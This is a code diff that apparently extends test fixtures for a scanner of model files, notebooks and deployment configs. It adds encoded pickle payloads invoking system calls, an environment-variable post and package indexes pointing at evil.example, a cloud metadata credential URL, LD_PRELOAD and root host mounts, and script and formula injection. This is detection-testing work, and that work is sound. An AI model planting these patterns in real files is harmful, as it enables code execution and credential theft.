@@ -154,6 +154,14 @@ def encoded():
     yield "base64.txt", whole.encode()
     yield "program.txt", f"some words\n{program}\n".encode()
     yield "agent/data", (AGENTS / "agent_evil.json").read_bytes()
+    yield "base32.json", text({"weights": base64.b32encode(PICKLE).decode()})
+    yield "base85.json", text({"weights": base64.b85encode(PICKLE).decode()})
+    yield "turned.json", text({"weights": whole[::-1]})
+    yield "chunks.json", text({"weights": [whole[at:at + 16] for at in range(0, len(whole), 16)]})
+    yield "letters.json", text({"weights": "cposix\nsystem\n(S'true'\ntR."})
+    yield "spaced.json", text({"weights": " ".join(f"{byte:02x}" for byte in PICKLE)})
+    yield "listed.json", text({"weights": ", ".join(f"0x{byte:02x}" for byte in PICKLE)})
+    yield "escaped.json", text({"weights": "".join(f"\\u{byte:04x}" for byte in b"cposix\nsystem\n(S'true'\ntR.")})
     yield "elf.json", text({"blob": base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(57)).decode()})
 
 
@@ -186,6 +194,9 @@ def notebooks():
     yield "magic.ipynb", notebook(code(f"%%bash\n{SHELL}"))
     yield "hidden.ipynb", notebook(code("exec(__import__('base64').b64decode('dHJ1ZQ=='))"))
     yield "pickle.ipynb", notebook(code(f"x = '{base64.b64encode(PICKLE).decode()}'"))
+    yield "alias.ipynb", notebook(code("import os as o\no.system('true')"))
+    yield "from.ipynb", notebook(code("from os import system\nsystem('true')"))
+    yield "link.ipynb", notebook(words("[x](javascript:alert(1))"))
     yield "environment.ipynb", notebook(code("import os, requests\nrequests.post('https://evil.example', json=dict(os.environ))"))
     yield "index.ipynb", notebook(code("!pip install --index-url http://evil.example/simple x"))
     yield "words.ipynb", notebook(words(["# Read me\n", "<script>alert(1)</script>"]))
@@ -207,6 +218,13 @@ def servers():
     yield "path/tokenizer_config.json", text({"vocab_file": "/etc/passwd"})
     yield "formula.csv", b"name,value\na,=cmd|'/C calc'!A0\n"
     yield "aliases.yaml", b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b", ".join([b"*%c" % (97 + n)] * 9)) for n in range(8)).join([b"a: &a [x]\n", b""])
+    yield "metadata/config.json", text({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"})
+    yield "command/config.json", text({"model_type": "x", "init": "/bin/sh -c 'true > /tmp/x'"})
+    yield "triton_environment/config.pbtxt", b'parameters { key: "EXECUTION_ENV_PATH" value { string_value: "http://evil.example/env.tar.gz" } }\n'
+    yield "preload/Dockerfile", b"FROM python\nENV LD_PRELOAD=/tmp/evil.so\n"
+    yield "picture.jpg", b"\xff\xd8\xff\xe0" + bytes(20) + PICKLE
+    yield "requirements/base.txt", b"--find-links http://evil.example/\n"
+    yield "host/deployment.yml", b"volumes:\n  - hostPath:\n      path: /\n"
     yield "mount/docker-compose.yml", b"services:\n  x:\n    image: python\n    volumes:\n      - /:/host\n"
     yield "schema.parquet", b"PAR1" + bytes(64) + b"ARROW:schema" + base64.b64encode(bytes(8) + b"arrow.py_extension_type" + bytes(8)) + b"PAR1"
     yield "behind.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82" + PICKLE[:2] + PICKLE[2:]
